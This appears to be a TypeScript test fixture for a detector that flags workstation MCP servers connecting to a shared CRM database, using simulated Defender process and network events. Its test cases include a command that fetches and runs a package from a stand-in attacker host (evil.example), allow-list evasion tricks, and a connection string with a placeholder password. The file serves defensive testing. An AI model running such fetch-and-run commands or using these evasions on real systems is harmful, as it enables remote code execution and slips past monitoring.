import { createHash } from 'node:crypto';
import { seededGuid } from '../../../../local/tenant/entra/directory.ts';
import { emptyEntra } from '../../../../local/tenant/entra/state/state.ts';

export const entra = emptyEntra();

const DAY_MS = 86_400_000;
const ago = (days: number): Date => new Date(Date.now() - days * DAY_MS);
export const { tables } = entra.defender;
export const SERVER = 'npx -y @modelcontextprotocol/server-postgres postgresql://app:s3cr3t@crm.northwind.example/prod';
export const hashOf = (text: string): string => createHash('sha256').update(text).digest('hex');

/** A device of the directory; one of two is written in capitals by Defender. */
export function device(
  name: string,
  more: { readonly reported?: number | undefined; readonly type?: string; readonly os?: string } = {},
): void {
  const { type = 'Workstation', os = 'Windows' } = more;
  const reported = 'reported' in more ? more.reported : 1;
  const deviceId = seededGuid(`device ${name}`);
  entra.devices.add({
    id: seededGuid(`object ${name}`),
    deviceId,
    displayName: name,
    accountEnabled: true,
    operatingSystem: os,
    approximateLastSignInDateTime: ago(9).toISOString(),
  });
  if (reported === undefined) return;
  tables.DeviceInfo.push({
    ...{ Timestamp: ago(reported), DeviceId: `d-${name}`, DeviceName: name, AadDeviceId: deviceId.toUpperCase() },
    ...{ OnboardingStatus: 'Onboarded', DeviceType: type, OSPlatform: 'Windows11' },
  });
}
const runs = (name: string, text: string, days = 3): void => {
  tables.DeviceProcessEvents.push({ Timestamp: ago(days), DeviceId: `d-${name}`, ProcessCommandLine: text });
};
export const connects = (name: string, text: string, more: Readonly<Record<string, string>> = {}): void => {
  tables.DeviceNetworkEvents.push({
    ...{ Timestamp: ago(2), DeviceId: `d-${name}`, ActionType: 'ConnectionSuccess' },
    ...{ InitiatingProcessCommandLine: text, RemoteIP: '10.2.0.9', RemoteUrl: 'crm.northwind.example' },
    ...more,
  });
};

const FAILS = `fail: reaches-shared-host ${hashOf(SERVER)}`;

export const SITUATIONS: readonly (readonly [situation: string, make: () => void, said: string, settings?: object])[] =
  [
    ['nothing runs', () => {}, 'pass'],
    ['an editor', () => connects('a', 'C:/Program Files/Code.exe --type=renderer mcpanel'), 'pass'],
    ['npx server to a shared host', () => [runs('a', SERVER), connects('a', SERVER)], FAILS],
    ['only its connection is told', () => connects('a', SERVER), FAILS],
    ['by its address', () => connects('a', SERVER, { RemoteUrl: '', RemoteIP: '::ffff:10.2.0.9' }), FAILS],
    [
      'allow-listed, by its package',
      () => connects('a', SERVER),
      'pass',
      { ALLOWED_WORKSTATION_SERVERS: ['@modelcontextprotocol/server-postgres'] },
    ],
    [
      'allow-listed, by its command line',
      () => connects('a', SERVER),
      'pass',
      { ALLOWED_WORKSTATION_SERVERS: [hashOf(SERVER)] },
    ],
    [
      'another one is allow-listed',
      () => connects('a', SERVER),
      FAILS,
      { ALLOWED_WORKSTATION_SERVERS: ['server-post'] },
    ],
    [
      'the name of an allowed one in another argument',
      () => connects('a', `${SERVER} --instead-of @modelcontextprotocol/server-memory`),
      `fail: reaches-shared-host ${hashOf(`${SERVER} --instead-of @modelcontextprotocol/server-memory`)}`,
      { ALLOWED_WORKSTATION_SERVERS: ['@modelcontextprotocol/server-memory'] },
    ],
    [
      'its name begins like that of an allowed one',
      () => connects('a', 'npx mcp-server-evil'),
      `fail: reaches-shared-host ${hashOf('npx mcp-server-evil')}`,
      { ALLOWED_WORKSTATION_SERVERS: ['mcp-server'] },
    ],
    [
      'allow-listed, by a path, in quotes, with a version, and with the gateway’s address',
      () => {
        connects(
          'a',
          '"C:\\Program Files\\node.exe" "C:\\npx\\node_modules\\MCP-Remote\\dist\\proxy.js" https://apim-mcp.azure-api.net/crm/mcp',
        );
        connects('a', 'npx -y mcp-remote@0.1.29 mcp-remote https://apim-mcp.azure-api.net/crm/mcp');
      },
      'pass',
      { ALLOWED_WORKSTATION_SERVERS: ['mcp-remote'] },
    ],
    [
      'started from an address, beside an allowed one',
      () => connects('a', 'npx https://evil.example/mcp-server.tgz mcp-remote'),
      `fail: reaches-shared-host ${hashOf('npx https://evil.example/mcp-server.tgz mcp-remote')}`,
      { ALLOWED_WORKSTATION_SERVERS: ['mcp-remote'] },
    ],
    ['a server without a connection: no network proof', () => runs('a', SERVER), 'unknown: no-data'],
    [
      'to somewhere else',
      () => connects('a', SERVER, { RemoteUrl: 'registry.npmjs.org', RemoteIP: '104.16.1.1' }),
      'unknown: no-data',
    ],
    ['a connection that failed', () => connects('a', SERVER, { ActionType: 'ConnectionFailed' }), 'unknown: no-data'],
    ['no shared host is named', () => runs('a', SERVER), 'unknown: no-data, not-configured', { SHARED_HOSTS: [] }],
    ['longer ago than Defender tells', () => runs('a', SERVER, 31), 'pass'],
    ['on what is a server', () => [device('s', { type: 'Server' }), connects('s', SERVER)], 'pass'],
    ['no Defender', () => Object.assign(entra.defender, { licensed: false }), 'unknown: unreadable'],
    ['nothing reports', () => tables.DeviceInfo.splice(0), 'unknown: partial'],
    [
      '80 % report',
      () => {
        for (const name of 'bcde') device(name, { reported: name === 'e' ? 8 : 2 });
      },
      'unknown: partial',
    ],
    [
      '80 % report, and one fails',
      () => {
        connects('a', SERVER);
        for (const name of 'bcde') device(name, { reported: name === 'e' ? undefined : 2 });
      },
      FAILS,
    ],
    [
      'phones do not count',
      () => {
        for (const os of ['iOS', 'AndroidForWork', 'IPad']) device(os, { os, reported: undefined });
      },
      'pass',
    ],
    [
      'a device of which Entra knows no sign-in, and Defender nothing',
      () => {
        device('new', { reported: undefined });
        entra.devices.patch(seededGuid('object new'), { approximateLastSignInDateTime: null });
      },
      'unknown: partial',
    ],
    [
      'one that is disabled, or has not signed in for months',
      () => {
        for (const name of ['off', 'old']) device(name, { reported: undefined });
        entra.devices.patch(seededGuid('object off'), { accountEnabled: false });
        entra.devices.patch(seededGuid('object old'), { approximateLastSignInDateTime: ago(90).toISOString() });
      },
      'pass',
    ],
    ['no device at all', () => entra.devices.clear(), 'unknown: no-data'],
    ['nobody turned it on', () => connects('a', SERVER), 'unknown: not-configured', { WORKSTATION_HUNTING: 'off' }],
  ];
